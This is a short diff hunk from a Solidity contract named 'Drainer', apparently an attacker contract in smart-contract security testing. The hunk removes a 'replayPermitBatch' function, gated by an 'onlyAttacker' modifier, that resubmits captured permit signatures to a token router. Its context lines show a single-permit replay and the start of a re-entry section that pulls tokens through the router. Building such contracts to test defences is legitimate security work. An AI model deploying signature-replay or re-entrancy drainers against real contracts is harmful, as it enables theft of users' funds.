@@ -232,16 +232,6 @@ contract Drainer is ITokensRecipient {
         router.permit(owner, permitSingle, signature);
     }
 
-    /// @notice Submits a captured batch permit signature to the router as if it were fresh.
-    function replayPermitBatch(
-        IAllowanceTransfer router,
-        address owner,
-        IAllowanceTransfer.PermitBatch calldata permitBatch,
-        bytes calldata signature
-    ) external onlyAttacker {
-        router.permit(owner, permitBatch, signature);
-    }
-
     // ----------------------------------------------------------------- re-entry
 
     /// @notice Pulls `amount` of a hook-calling token through the router into this contract and,
